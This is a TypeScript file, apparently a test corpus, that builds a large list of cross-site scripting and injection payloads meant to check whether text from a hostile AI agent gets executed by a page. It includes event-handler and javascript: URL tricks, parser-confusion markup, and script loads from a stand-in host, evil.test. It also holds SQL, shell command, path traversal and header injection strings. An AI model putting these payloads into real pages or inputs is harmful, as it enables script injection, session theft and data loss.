// @ts-check
// What a hostile agent says in the hope that a page takes it for more than text. Each of it, if it runs, sets pwned.

const run = "top.pwned=1";

/** Handlers that fire without anybody's doing, by the element that has them. */
const handlers = [
  "img src=x onerror", "img src=data:, onerror", "img srcset=x onerror", "image src=x onerror", "svg onload", "svg/onload", "body onload", "body onpageshow", "body onfocus", "body onhashchange",
  "body onresize", "iframe onload", "iframe srcdoc=x onload", "object data=x onerror", "object onerror", "embed src=x onload", "embed src=x onerror", "video src=x onerror", "video onerror", "audio src=x onerror",
  "audio src=data:, onloadstart", "video autoplay src=x onloadstart", "track default src=x onerror", "source onerror", "input autofocus onfocus", "input type=image src=x onerror", "select autofocus onfocus", "textarea autofocus onfocus",
  "button autofocus onfocus", "keygen autofocus onfocus", "a autofocus tabindex=0 onfocus", "div tabindex=0 autofocus onfocusin", "details open ontoggle", "dialog open onclose", "marquee onstart", "marquee loop=1 onfinish",
  "link rel=stylesheet href=x onerror", "link rel=stylesheet href=data:, onload", "script src=x onerror", "script src=data:, onload", "style onload", "style>@import 'x'</style><style onerror", "frameset onload", "meter onmouseover",
  "xss onanimationstart style=animation:a", "xss ontransitionend style=transition:1s", "svg><animate onbegin", "svg><animate attributeName=x dur=1s onend", "svg><set attributeName=x onbegin", "svg><image href=x onerror",
  "svg><use href=# onload", "svg><a xlink:href=x onfocus", "math onload", "math><mtext onmouseover", "form onformdata", "isindex type=image src=1 onerror", "bgsound src=x onerror", "layer onload", "xml onreadystatechange", "p onbeforematch hidden=until-found",
];

/** Addresses that are code. */
const addresses = [
  "javascript:" + run, "JaVaScRiPt:" + run, " javascript:" + run, "java\tscript:" + run, "java\nscript:" + run, "java\rscript:" + run, "\u0001javascript:" + run, "javascript&colon;" + run, "&#106;avascript:" + run,
  "&#x6A&#x61vascript:" + run, "jav&#x0A;ascript:" + run, "javascript:/*--></title></style></textarea></script><svg/onload='" + run + "'>", "javascript://%0a" + run, "javascript://https://a.test/%0d" + run, "data:text/html,<script>" + run + "</script>",
  "data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='" + run + "'/>", "data:application/javascript," + run, "vbscript:" + run, "view-source:javascript:" + run,
  "blob:" + run, "filesystem:" + run, "//evil.test/x.js", "\\\\evil.test\\x.js", "https://evil.test/x.js", "https:evil.test", "/\\evil.test", "?token=x", "#/traffic/\"><img src=x onerror=" + run + ">", "../../api/calls",
];

/** Ways out of where a text stands. */
const exits = ["\">", "'>", "`>", ">", "-->", "]]>", "*/", "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</template>", "</select>", "</option>", "</pre>", "</iframe>", "</xmp>", "</noembed>", "</svg>", "</math>", "</plaintext>", "\" onmouseover=\"" + run + "\" x=\"", "' autofocus onfocus='" + run + "' x='", "\\\">", "\\u0022>", "%22%3E", "&quot;>", "&#34;&#62;", "\u0000\">", "\"\u2028>", "\"});" + run + "//", "';" + run + ";//", "\\';" + run + ";//", "`${" + run + "}`", "${" + run + "}", "{{constructor.constructor('" + run + "')()}}", "{{" + run + "}}", "<%= " + run + " %>", "#{" + run + "}"];

/** Markup that parsers read in more than one way. */
const doubtful = [
  "<script>" + run + "</script>", "<SCRIPT>" + run + "</SCRIPT>", "<script/x>" + run + "</script>", "<script\n>" + run + "</script\n>", "<scr<script>ipt>" + run + "</scr</script>ipt>", "<script type=module>" + run + "</script>", "<script src=//evil.test/x.js></script>",
  "<script>/*</textarea>*/" + run + "</script>", "<noscript><p title=\"</noscript><img src=x onerror=" + run + ">\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=" + run + "&gt;\">",
  "<svg></p><style><a id=\"</style><img src=1 onerror=" + run + ">\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=" + run + ">", "<!--><img src=x onerror=" + run + ">-->", "<![CDATA[><img src=x onerror=" + run + ">]]>",
  "<?xml version=1?><img src=x onerror=" + run + ">", "<img src=x:x onerror\u0009=" + run + ">", "<img\u000csrc=x\u000conerror=" + run + ">", "<img src=\"x\" onerror=\"&#116;op.pwned=1\">", "<img src=x onerror=\\u0074op.pwned=1>", "<<img src=x onerror=" + run + ">>",
  "\ufeff<img src=x onerror=" + run + ">", "\u202e<img src=x onerror=" + run + ">", "\u{1f4a9}<img src=x onerror=" + run + ">", "+ADw-script+AD4-" + run + "+ADw-/script+AD4-", "\u00bcscript\u00be" + run + "\u00bc/script\u00be", "<base href=//evil.test/>", "<meta http-equiv=refresh content=\"0;url=javascript:" + run + "\">",
  "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<link rel=import href=//evil.test>", "<link rel=preload as=image href=//evil.test/i>", "<style>@import url(//evil.test/c.css);*{background:url(//evil.test/b)}</style>", "<div style=\"background:url(//evil.test/d);position:fixed;inset:0\">",
  "<form action=//evil.test><button autofocus>Go</button></form>", "<a href=//evil.test id=keys name=keys>", "<img name=getElementById>", "<form id=view><input name=replaceChildren>", "<template shadowrootmode=open><slot onslotchange=" + run + "></template>",
  "__proto__", "constructor", "toString", "hasOwnProperty", "\n\nevent: agent\ndata: {\"number\":0,\"name\":\"pwned\"}\n\n", "\r\nSet-Cookie: pwned=1\r\n\r\n", "\u001b]0;pwned\u0007\u001b[2J", "%s%s%n", "\u0000", "\u2029\u2028\u0085", "'; DROP TABLE tasks;--", "$(touch pwned)`touch pwned`", "../../../etc/passwd",
];

export const payloads = [
  ...handlers.map((h) => `<${h}=${run}>`),
  ...addresses,
  ...addresses.slice(0, 20).map((a) => `<a href="${a}" autofocus>x</a>`),
  ...exits.map((e) => `${e}<img src=x onerror=${run}>`),
  ...doubtful,
];
